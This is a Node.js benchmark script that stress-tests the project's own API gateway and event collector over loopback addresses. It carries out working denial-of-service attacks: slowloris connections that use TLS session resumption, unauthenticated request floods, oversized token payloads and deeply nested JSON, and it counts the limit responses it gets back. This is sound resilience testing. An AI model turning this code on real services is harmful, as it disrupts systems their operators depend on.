// One attack, run as its own process by bench/attack/run.mjs (never by hand, never in CI):
//   node attacker.mjs '<json options>'
// Reports its counters over the IPC channel once a second ({type: 'stats', …}) and stops on the
// message 'stop' (then sends {type: 'final', …} and exits). It exits on its own when the IPC
// channel closes, so a killed benchmark leaves no attacker behind.
//
// Attacks (options.kind):
//   slowloris  keeps `slow` TLS connections that send a request head one byte every `dribbleMs`,
//              and `idle` TLS connections that finish the handshake and send nothing; each one the
//              service closes is replaced at once, as a real attacker would. Spread over
//              `addresses` loopback source addresses and over the listed `targets` (host:port).
//   flood      POST /_gateway/event without credentials (the collector needs none), as fast as
//              `connections` keep-alive connections from `addresses` source addresses allow.
//   bigtoken   count_tokens and a chat (local/echo) whose message is `bytes` of one character.
//   nested     JSON nested `depth` deep: in a chat's tool parameters and in a collector event.
import { connect as tlsConnect } from 'node:tls';
import { Pool } from 'undici';

const options = JSON.parse(process.argv[2]);
process.on('disconnect', () => process.exit(0));

const counters = { started: Date.now() };
const statuses = {};
const count = (name, by = 1) => (counters[name] = (counters[name] ?? 0) + by);
const countStatus = (status) => (statuses[status] = (statuses[status] ?? 0) + 1);
let stopping = false;

function report(type) {
  process.send?.({ type, counters: { ...counters }, statuses: { ...statuses }, extra: extra() });
}
let extra = () => ({});
const reporter = setInterval(() => report('stats'), 1000);
process.on('message', async (message) => {
  if (message !== 'stop') return;
  stopping = true;
  clearInterval(reporter);
  await stopAttack();
  report('final');
  setTimeout(() => process.exit(0), 200);
});
let stopAttack = async () => {};

const address = (i) => `127.0.${options.addressBlock ?? 2}.${1 + (i % options.addresses)}`;

// ---------------------------------------------------------------------------------------------
// slowloris: a pool of connections kept at its size; handshakes in flight are limited so the
// attacker does not drown itself.
function slowloris() {
  const targets = options.targets.map((t) => {
    const [host, port] = t.split(':');
    return { host, port: Number(port) };
  });
  const open = { slow: new Set(), idle: new Set() };
  let connecting = 0;
  // Slow and idle connections interleaved, so both kinds ramp up together.
  const total = options.slow + options.idle;
  const wanted = Array.from({ length: total }, (_, i) => ({
    kind: Math.floor(((i + 1) * options.idle) / total) > Math.floor((i * options.idle) / total) ? 'idle' : 'slow',
    i,
  }));
  // TLS session resumption, as a real attacker would use: an abbreviated handshake costs both
  // sides less than a full one, so more connections can be held with the same CPU.
  const sessions = new Map();
  const head = `GET /v1/models HTTP/1.1\r\nHost: localhost\r\nUser-Agent: slowloris\r\n`;
  const filler = 'X-Padding: ' + 'a'.repeat(8000) + '\r\n';
  const script = head + filler;

  function open1(slot) {
    if (stopping) return;
    connecting++;
    count('connect_attempts');
    const target = targets[slot.i % targets.length];
    const targetKey = `${target.host}:${target.port}`;
    const socket = tlsConnect({
      host: target.host,
      port: target.port,
      localAddress: address(slot.i),
      rejectUnauthorized: false,
      session: sessions.get(targetKey),
    });
    socket.once('session', (session) => sessions.set(targetKey, session));
    let secured = false;
    let timer;
    socket.setNoDelay(true);
    socket.on('error', (error) => count(`error_${error.code ?? 'other'}`));
    socket.once('secureConnect', () => {
      secured = true;
      connecting--;
      count(socket.isSessionReused() ? 'handshakes_resumed' : 'handshakes_full');
      open[slot.kind].add(socket);
      socket.resume();
      if (slot.kind === 'slow') {
        let at = 0;
        // Stagger the first byte so the writes of all connections spread over the interval.
        timer = setTimeout(function dribble() {
          if (socket.destroyed) return;
          socket.write(script[at % script.length]);
          at++;
          timer = setTimeout(dribble, options.dribbleMs);
        }, Math.random() * options.dribbleMs);
      }
    });
    socket.once('close', () => {
      clearTimeout(timer);
      if (!secured) {
        connecting--;
        count('failed_before_handshake');
      } else if (open[slot.kind].delete(socket) && !stopping) {
        count(`closed_by_service_${slot.kind}`);
      }
      queue.push(slot);
    });
  }

  const queue = [...wanted];
  const pump = setInterval(() => {
    while (queue.length > 0 && connecting < options.maxConnecting && !stopping) open1(queue.shift());
  }, 5);
  extra = () => ({ open_slow: open.slow.size, open_idle: open.idle.size, connecting, queued: queue.length });
  stopAttack = async () => {
    clearInterval(pump);
    for (const set of Object.values(open)) for (const socket of set) socket.destroy();
  };
}

// ---------------------------------------------------------------------------------------------
// Request loops shared by flood, bigtoken and nested: `loops` concurrent senders, each sending
// its next request when the last one is answered.
function pools(origin, n, perPool, timeoutMs) {
  return Array.from(
    { length: n },
    (_, i) =>
      new Pool(origin, {
        connections: perPool,
        pipelining: 1,
        keepAliveTimeout: 10_000,
        headersTimeout: timeoutMs,
        bodyTimeout: timeoutMs,
        // The pool's own option: undici overrides `connect.localAddress` with this one (null by
        // default), so given there the attack would come from 127.0.0.1 like the normal client.
        localAddress: address(i),
        connect: { rejectUnauthorized: false },
      }),
  );
}

async function send(pool, { path, method = 'POST', headers, body }, label) {
  const started = performance.now();
  count(`${label}_sent`);
  try {
    const response = await pool.request({ path, method, headers, body });
    if (response.statusCode === 429) countStatus(`${label} 429 ${refusalScope(await response.body.text())}`);
    else {
      await response.body.dump();
      countStatus(`${label} ${response.statusCode}`);
    }
  } catch (error) {
    countStatus(`${label} ${error.code ?? error.name}`);
  }
  count(`${label}_ms`, performance.now() - started);
  count(`${label}_answered`);
}

/** Which limit a collector 429 came from, by its message (src/collector/limits/limit-errors.ts). */
function refusalScope(text) {
  if (/client address/.test(text)) return 'address';
  if (/for this project/.test(text)) return 'project';
  if (/quota/.test(text)) return 'quota';
  return 'other';
}

function loops(n, next) {
  const running = Array.from({ length: n }, async (_, i) => {
    while (!stopping) await next(i);
  });
  stopAttack = async () => {
    await Promise.race([Promise.all(running), new Promise((resolve) => setTimeout(resolve, 2000))]);
  };
}

function flood() {
  const all = pools(options.collector, options.addresses, Math.ceil(options.connections / options.addresses), 10_000);
  let n = 0;
  const body = (i) =>
    JSON.stringify({
      data_collection: {
        context: { page: { url: `https://${options.host}/flood/${i}`, title: 'flood' } },
        events: Array.from({ length: options.eventsPerRequest }, (_, k) => ({
          type: 'track',
          data: { name: 'flood', properties: { i, k, pad: 'x'.repeat(200) } },
        })),
      },
    });
  loops(options.connections, (i) =>
    send(
      all[i % all.length],
      {
        path: '/_gateway/event',
        headers: { host: options.host, 'content-type': 'application/json' },
        body: body(n++),
      },
      'event',
    ),
  );
}

function bigtoken() {
  const [gateway] = pools(options.gateway, 1, 4, options.timeoutMs);
  const text = options.char.repeat(options.bytes);
  const auth = { authorization: `Bearer ${options.key}`, 'content-type': 'application/json' };
  const countTokens = JSON.stringify({ model: 'openai/gpt-4o-mini', messages: [{ role: 'user', content: text }] });
  const chat = JSON.stringify({ model: 'local/echo', messages: [{ role: 'user', content: text }], max_tokens: 16 });
  loops(options.loops, (i) =>
    i % 2 === 0
      ? send(gateway, { path: '/v1/count_tokens', headers: auth, body: countTokens }, 'count_tokens')
      : send(gateway, { path: '/v1/chat/completions', headers: auth, body: chat }, 'chat'),
  );
}

function nested() {
  const [gateway] = pools(options.gateway, 1, 4, options.timeoutMs);
  const [collector] = pools(options.collector, 1, 4, options.timeoutMs);
  const deep = '['.repeat(options.depth) + ']'.repeat(options.depth);
  const chat =
    '{"model":"openai/gpt-4o-mini","messages":[{"role":"user","content":"hi"}],"tools":[{"type":"function",' +
    `"function":{"name":"f","parameters":{"type":"object","properties":{},"x":${deep}}}}]}`;
  const event =
    '{"data_collection":{"context":{"page":{"url":"https://' +
    options.host +
    `/"}},"events":[{"type":"track","data":{"name":"deep","properties":{"x":${deep}}}}]}}`;
  const auth = { authorization: `Bearer ${options.key}`, 'content-type': 'application/json' };
  loops(options.loops, (i) =>
    i % 2 === 0
      ? send(gateway, { path: '/v1/chat/completions', headers: auth, body: chat }, 'chat')
      : send(
          collector,
          { path: '/_gateway/event', headers: { host: options.host, 'content-type': 'application/json' }, body: event },
          'event',
        ),
  );
}

({ slowloris, flood, bigtoken, nested })[options.kind]();
